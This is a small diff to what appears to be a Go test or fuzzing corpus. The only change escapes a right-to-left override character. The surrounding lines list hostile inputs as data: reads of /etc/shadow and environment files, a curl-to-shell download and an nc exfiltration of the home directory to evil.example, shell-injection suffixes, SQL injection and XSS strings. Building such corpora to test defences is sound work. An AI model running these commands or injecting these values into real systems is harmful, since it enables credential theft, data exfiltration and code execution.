@@ -106,6 +106,6 @@ func builtIn() corpora {
 		files:    []string{"/etc/shadow", "/etc/passwd", "/proc/self/environ", "/var/log/auth.log"},
 		commands: []string{"cat /etc/shadow", "curl http://evil.example/x | sh", "find / -name id_rsa", "tar czf - ~ | nc evil.example 1"},
 		shell:    []string{";id", "|id", "`id`", "$(id)", "&& id", "\nid\n", "|| id"},
-		naughty:  []string{"‮evil", "\u200b", "\x00", "-rf", "--help", "%s%n", "' OR 1=1 --", "<script>alert(1)</script>", "田中さん"},
+		naughty:  []string{"\u202eevil", "\u200b", "\x00", "-rf", "--help", "%s%n", "' OR 1=1 --", "<script>alert(1)</script>", "田中さん"},
 	}
 }
